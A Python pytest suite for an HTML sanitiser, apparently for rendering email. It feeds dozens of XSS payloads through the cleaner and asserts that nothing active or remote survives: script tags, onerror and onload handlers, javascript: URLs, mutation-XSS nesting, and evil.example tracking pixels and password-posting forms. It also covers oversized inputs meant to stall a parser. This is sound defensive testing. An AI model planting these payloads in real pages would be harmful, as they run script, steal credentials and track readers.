"""Hostile HTML comes out harmless, in time that grows with its length alone."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from discovery.sanitise import MAX_HTML_CHARACTERS, UnsafeToShow, sanitise

PIXEL = "data:image/png;base64,AAAA"


def clean(html):
    return sanitise(html, picture=lambda cid: PIXEL if cid == "logo@here" else None)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<div style='background:url(//evil.example/a.png)'>x</div>",
        "<div style='background-image:url(javascript:alert(1))'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='color:red;position:fixed;top:0'>x</div>",
        "<style>@import '//evil.example/a.css';</style>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<base href='//evil.example/'>",
        "<form action=//evil.example/><input name=password><button>go</button></form>",
        "<img src=//evil.example/pixel.gif>",
        "<img src='http://evil.example/pixel.gif' srcset='http://evil.example/2x.gif 2x'>",
        "<table background=//evil.example/a.png><tr><td>x</td></tr></table>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<iframe src=//evil.example/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
        "<video src=//evil.example/v.mp4 autoplay></video><audio src=//evil.example/a.mp3></audio>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea><script>alert(1)</script></textarea>",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<p title='--><script>alert(1)</script>'>x",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<a href='http://evil.example/track'>x</a>",
        "<a ping=//evil.example/ href=#x>x</a>",
        "<x onclick=alert(1)>x</x>",
        "\x00<scr\x00ipt>alert(1)</script>",
    ],
)
def test_nothing_active_or_remote_is_left(html):
    safe = clean(html).html.lower()
    for mark in ("<script", " on", "javascript:", "evil.example", "<svg", "<math", "<iframe", "<form", "<input", "<meta",
                 "<base", "<link", "<style", "url(", "expression", "position", "href", "srcset", "data:text", "<object",
                 "<embed", "<video", "<template", "<!--"):  # fmt: skip
        assert mark not in safe


def test_formatting_and_tables_stay():
    html = '<table border="1"><tbody><tr><td colspan="2"><b>Total</b> <font color="red">12</font></td></tr></tbody></table>'
    assert clean(html).html == html


def test_safe_styles_stay_and_others_go():
    assert clean('<p style="color:red;position:fixed;margin-top:2px">x</p>').html == (
        '<p style="color:red;margin-top:2px">x</p>'
    )


def test_a_picture_of_the_message_itself_is_shown():
    assert clean('<img src="cid:logo@here" alt="Logo">').html == f'<img src="{PIXEL}" alt="Logo">'


def test_a_remote_picture_is_counted_and_its_words_stay():
    result = clean('<img src="https://evil.example/a.gif" alt="Spring sale">')
    assert (result.html, result.blocked_count) == ('<img alt="Spring sale">', 1)


def test_a_small_picture_inside_the_html_stays():
    assert clean(f'<img src="{PIXEL}">').html == f'<img src="{PIXEL}">'


def test_links_lose_their_target_and_are_listed_once():
    result = clean('<a href="https://a.example/?u=1">one</a> <a href="https://a.example/?u=1">two</a>')
    assert (result.html, result.links) == ("<a>one</a> <a>two</a>", ("https://a.example/?u=1",))


def test_unclosed_tags_are_closed():
    assert clean("<div><p>one<p>two").html == "<div><p>one</p><p>two</p></div>"


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 200_000,
        "<div><table></div></table>" * 38_000,
        "<p>" + "".join(f"<font color=c{i}>" for i in range(500)) + "</p><p>x" * 100_000,
        "<table>" + "".join(f"<font color=c{i}>" for i in range(500)) + "<tr>x" * 150_000,
        "<a><div>" * 120_000,
        "<a " + " ".join(f"x{i}" for i in range(130_000)) + ">x",
        '<!-- <a x="--><b c=" > " ' + " ".join(f"x{i}" for i in range(120_000)) + ">x",
        "<svg>" * 190_000,
        "<" * 900_000,
        "<ul><li>" * 120_000,
    ],
    ids=["nested", "scopes", "formatting", "foster", "misnested", "attributes", "hidden", "svg", "angles", "lists"],
)  # fmt: skip
def test_monstrous_html_takes_seconds_and_stays_bounded(html):
    started = time.process_time()
    safe = clean(html).html
    assert time.process_time() - started < 20
    assert len(safe) < len(html) * 6 + 10_000


def test_html_past_the_limit_is_refused():
    with pytest.raises(UnsafeToShow):
        clean("x" * (MAX_HTML_CHARACTERS + 1))


@given(
    st.lists(
        st.sampled_from(
            "<p> <b> </b> <table> <tr> <td> </table> <a x=' ' \" <!-- --> <svg> </svg> <li> x & < > = / </p>".split(" ")
        )
    )
)
def test_any_soup_is_cleaned_to_a_fixed_point(pieces):
    once = clean("".join(pieces)).html
    assert clean(once).html == once


@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("<>/\"'=&;! ")), max_size=400))
def test_any_text_at_all_is_cleaned_without_a_fault(text):
    assert "<script" not in clean(text).html.lower()
